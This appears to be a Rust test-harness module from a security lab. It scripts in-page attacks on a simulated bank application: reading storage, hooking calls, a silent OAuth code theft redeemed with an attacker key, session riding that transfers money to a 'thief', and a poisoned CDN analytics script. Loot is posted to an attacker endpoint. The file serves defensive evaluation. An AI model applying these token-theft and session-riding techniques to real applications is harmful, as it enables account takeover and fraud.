//! A script of the attacker in the victim's page: A1, A2, A2b, A3, A3b, A4 and M1.

use anyhow::Result;
use cloakroom_lab_report::{Actor, Verdict};
use cloakroom_lab_victims::What;
use serde_json::{Value, json};

use super::VERIFIER;
use super::payload::{HARVEST, HOOKS, PRELUDE, deliver, deliver_and_collect, script};
use crate::dpop::Key;
use crate::person::{READY, does, tries};
use crate::redeem::{Loot, Redeemed, opens, redeem};
use crate::scene::{Outcome, Scene};
use crate::world::cut;

/// A1: a script reads every storage.
pub(super) async fn reads_storage(scene: &mut Scene<'_>) -> Result<Outcome> {
    let payload = script(scene, &[HARVEST], "await harvest();");
    let pieces = deliver_and_collect(scene, payload).await?;
    judge_loot(scene, &pieces, Verdict::Leak).await
}

/// A2: a script hooks what the page calls, and the page goes on.
pub(super) async fn hooks(scene: &mut Scene<'_>) -> Result<Outcome> {
    let payload = script(scene, &[HOOKS], "hook(window);");
    deliver_and_collect(scene, payload).await?;
    goes_on(scene).await?;
    let pieces = scene.world.evil.wait_loot("end-of-use").await?;
    judge_loot(scene, &pieces, Verdict::Leak).await
}

/// An application takes no longer than this to start, or does not.
const STARTS_ANEW_WITHIN: std::time::Duration = std::time::Duration::from_secs(10);

/// A2b: a script starts the application anew with hooks in it; the victim logs in again.
pub(super) async fn starts_anew(scene: &mut Scene<'_>) -> Result<Outcome> {
    let hooks = format!("const LOOT = {};\n{PRELUDE}\n{HOOKS}", Value::String(scene.loot()));
    let source = Value::String(hooks);
    let main = format!("await again({source});");
    let payload = script(scene, &[include_str!("../../payloads/again.js")], &main);
    deliver(scene, payload).await?;
    let started = "window.anew && window.bank && (await window.bank.ready, true)";
    if let Err(why) = scene.page.wait_for_within(started, STARTS_ANEW_WITHIN).await {
        scene.step(Actor::Attacker, "replaces the page by the same application with hooks in it", "it does not start");
        let why = crate::world::cut(&format!("{why:#}"));
        return Ok((
            Verdict::Safe,
            format!("the application does not start in a page that a script has written: {why}"),
        ));
    }
    scene.step(Actor::Attacker, "replaces the page by the same application with hooks in it", "");
    let again = tries(&scene.page, "profile", &[]).await?;
    if again.get("refused").is_some() {
        scene.victim.log_in(&scene.page).await?;
        scene.step(Actor::Victim, "is asked to log in again, and does", "");
    }
    goes_on(scene).await?;
    let pieces = scene.world.evil.wait_loot("end-of-use").await?;
    judge_loot(scene, &pieces, Verdict::Leak).await
}

/// A3: a silent flow at the provider, in a hidden frame, for a code of the attacker's own.
pub(super) async fn silent_flow(scene: &mut Scene<'_>) -> Result<Outcome> {
    let asked = scene.world.wire.since(scene.mark, |seen| seen.server == "provider");
    if asked.is_empty() {
        return Ok((Verdict::Na, "logging in asked no provider, so there is no flow to run silently".to_owned()));
    }
    // Whoever signs in with a provider is logged in there afterwards, too.
    let provider = scene.world.names.provider();
    scene.page.goto(&format!("{provider}/")).await?;
    scene.page.wait_for(READY).await?;
    scene.victim.log_in(&scene.page).await?;
    scene.step(Actor::Victim, "is logged in at the provider as well", "");
    let home = scene.app("/");
    scene.page.goto(&home).await?;
    scene.page.wait_for(READY).await?;
    let callback = scene.app("/callback");
    let frame = include_str!("../../payloads/silent.js");
    let main = format!(
        "const PROVIDER = {}, CLIENT = {}, CALLBACK = {}, CHALLENGE = {};\n{frame}",
        json!(provider),
        json!(scene.row),
        json!(callback),
        json!(challenge())
    );
    let payload = script(scene, &[], &main);
    let pieces = deliver_and_collect(scene, payload).await?;
    let Some(code) = pieces.iter().find_map(|piece| piece.strip_prefix("code:")) else {
        return Ok((Verdict::Safe, "the provider gave the hidden frame no code that the script could read".to_owned()));
    };
    let key = Key::new()?;
    let body = json!({ "grant_type": "authorization_code", "code": code, "code_verifier": VERIFIER, "redirect_uri": callback, "client_id": scene.row });
    let proof = key.proof("POST", &scene.app("/token"), None, 1)?;
    let headers = [("content-type", "application/json"), ("dpop", proof.as_str())];
    let answer = scene.world.machine.send(&scene.host(), "POST", "/token", &headers, body.to_string()).await?;
    scene.step(
        Actor::Attacker,
        "redeems the code on another machine, with a key of his own",
        answer.status().to_string(),
    );
    let loot = Loot { texts: vec![answer.body().clone()], ..Loot::default() };
    for (number, token) in loot.words().iter().enumerate() {
        let proof = key.proof("GET", &scene.app("/api/profile"), Some(token), number as u64 + 2)?;
        let bound = format!("DPoP {token}");
        if opens(scene, &[("authorization", &bound), ("dpop", &proof)]).await? {
            return Ok((Verdict::Mint, "a token bound to a key of the attacker's own opens the account".to_owned()));
        }
    }
    match redeem(scene, &loot).await? {
        Some(redeemed) => Ok((Verdict::Mint, format!("a token of his own for the victim's account: {}", redeemed.how))),
        None => Ok((Verdict::Safe, "the code could be read, but what it was exchanged for opened nothing".to_owned())),
    }
}

/// RFC 7636 4.2.
fn challenge() -> String {
    use base64::Engine as _;
    let hash = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, VERIFIER.as_bytes());
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(hash)
}

/// A3b: a script calls the endpoints that give tokens, and takes the answer.
pub(super) async fn calls_refresh(scene: &mut Scene<'_>) -> Result<Outcome> {
    let payload = script(scene, &[], include_str!("../../payloads/refresh.js"));
    let pieces = deliver_and_collect(scene, payload).await?;
    judge_loot(scene, &pieces, Verdict::Mint).await
}

/// Where Cloakroom asks for the approval of one call.
const APPROVAL: &str = "/auth/step-up/";

/// A4: a script acts in the session while the page is open.
pub(super) async fn rides(scene: &mut Scene<'_>) -> Result<Outcome> {
    let payload = script(
        scene,
        &[],
        "await attempt('ride', () => window.bank.transfer('thief', 1300)); await attempt('delete', () => window.bank.remove());",
    );
    if let Err(silent) = deliver_and_collect(scene, payload).await {
        // An application that leaves for the approval of a call takes the script off with its page.
        if !scene.page.url().await?.contains(APPROVAL) {
            return Err(silent);
        }
        scene.step(
            Actor::Victim,
            "is shown what the script wants to have approved",
            "the script has gone with its page",
        );
    }
    let deeds = scene.deeds();
    let robbed = deeds.iter().any(|deed| matches!(&deed.what, What::Transferred { to, .. } if to == "thief"));
    let deleted = deeds.iter().any(|deed| matches!(deed.what, What::AccountDeleted));
    let stepped = match (robbed, deleted) {
        (true, false) => "; deleting the account was refused: it asks for an approval of its own",
        (true, true) => "; it deleted the account as well",
        _ => "",
    };
    Ok(if robbed {
        (Verdict::Ride, format!("the script sent 1300 to the thief, in the victim's session{stepped}"))
    } else {
        (Verdict::Safe, "the script's transfer is not in the audit log".to_owned())
    })
}

/// M1: the same from a script that the application itself loads from somewhere else.
pub(super) async fn poisoned_module(scene: &mut Scene<'_>) -> Result<Outcome> {
    let main = "hook(window); while (!window.bank) await new Promise((go) => setTimeout(go, 10)); await window.bank.ready; globalThis.poisoned = async () => { await harvest(); await attempt('ride', () => window.bank.transfer('thief', 1300)); await send('poison', 'spent'); };";
    let address = format!("{}/analytics.js", scene.world.names.cdn());
    let payload = script(scene, &[HARVEST, HOOKS], main);
    scene.world.cdn.put("/analytics.js", crate::world::Served::script(payload));
    scene.world.bank.set_analytics(Some(address.clone()));
    let home = scene.app("/");
    scene.page.goto(&home).await?;
    scene.page.wait_for(crate::person::READY).await?;
    scene.step(Actor::Victim, format!("opens {home}, which loads {address}"), "");
    if tries(&scene.page, "profile", &[]).await?.get("refused").is_some() {
        scene.victim.log_in(&scene.page).await?;
    }
    goes_on(scene).await?;
    scene.page.eval("globalThis.poisoned?.()").await?;
    let pieces = scene.world.evil.wait_loot("poison:").await?;
    let (verdict, why) = judge_loot(scene, &pieces, Verdict::Leak).await?;
    let robbed = scene.deeds().iter().any(|deed| matches!(&deed.what, What::Transferred { to, .. } if to == "thief"));
    Ok(if robbed && verdict < Verdict::Ride {
        (
            Verdict::Ride,
            "the module sent 1300 to the thief, in the victim's session; it carried nothing away".to_owned(),
        )
    } else {
        (verdict, why)
    })
}

/// The victim goes on using the page; the last word is sent by the same way as whatever was hooked.
async fn goes_on(scene: &mut Scene<'_>) -> Result<()> {
    does(&scene.page, "profile", &[]).await?;
    does(&scene.page, "transfer", &[json!("friend"), json!(2)]).await?;
    scene.step(Actor::Victim, "goes on: looks at the profile and sends 2 to a friend", "");
    let loot = Value::String(scene.loot());
    scene
        .page
        .eval(&format!(
            "fetch({loot}, {{ method: 'POST', mode: 'no-cors', body: 'end-of-use' }}).then(() => 1, () => 0)"
        ))
        .await?;
    Ok(())
}

/// What the loot is worth: `best` if it opens the account on another machine.
pub(super) async fn judge_loot(scene: &mut Scene<'_>, pieces: &[String], best: Verdict) -> Result<Outcome> {
    let loot = Loot::of(pieces);
    let redeemed = redeem(scene, &loot).await?;
    let claims = carries_claims(pieces);
    if let Some(Redeemed { how, .. }) = &redeemed {
        scene.step(Actor::Attacker, "opens the victim's profile on another machine", how.clone());
    } else {
        scene.step(Actor::Attacker, "tries everything he has on another machine", "nothing opens the victim's profile");
    }
    Ok(weigh(redeemed.as_ref(), claims.as_deref(), best))
}

/// The judgement itself.
fn weigh(redeemed: Option<&Redeemed>, claims: Option<&str>, best: Verdict) -> Outcome {
    match (redeemed, claims) {
        (Some(redeemed), _) => {
            (best, format!("the victim's profile was answered to another machine, by {}", redeemed.how))
        }
        (None, Some(claims)) => (Verdict::Part, format!("claims only, nothing that opens anything: {claims}")),
        (None, None) => (Verdict::Safe, "what was collected opens nothing on another machine".to_owned()),
    }
}

/// The claims of a token that is not whole, if there are any in the loot.
fn carries_claims(pieces: &[String]) -> Option<String> {
    use base64::Engine as _;
    let part = |word: &str| {
        let payload = word.split('.').nth(1)?;
        let bytes = base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(payload).ok()?;
        let claims: Value = serde_json::from_slice(&bytes).ok()?;
        claims.get("sub").map(|_| cut(&claims.to_string()))
    };
    let is_part = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'));
    pieces.iter().flat_map(|piece| piece.split(is_part)).filter(|word| word.starts_with("ey")).find_map(part)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pile_that_opens_the_account_is_worth_the_best_and_one_with_claims_a_part() {
        let opens = Redeemed { how: "x".to_owned(), headers: Vec::new() };
        assert_eq!(weigh(Some(&opens), None, Verdict::Mint).0, Verdict::Mint);
        assert_eq!(weigh(None, Some("{}"), Verdict::Leak).0, Verdict::Part);
        assert_eq!(weigh(None, None, Verdict::Leak).0, Verdict::Safe);
    }

    #[test]
    fn claims_are_found_in_a_token_without_its_signature() {
        let pieces = ["cookies:claims=eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0; x=1".to_owned()];
        assert!(carries_claims(&pieces).is_some());
        assert!(carries_claims(&["nothing here".to_owned()]).is_none());
    }
}
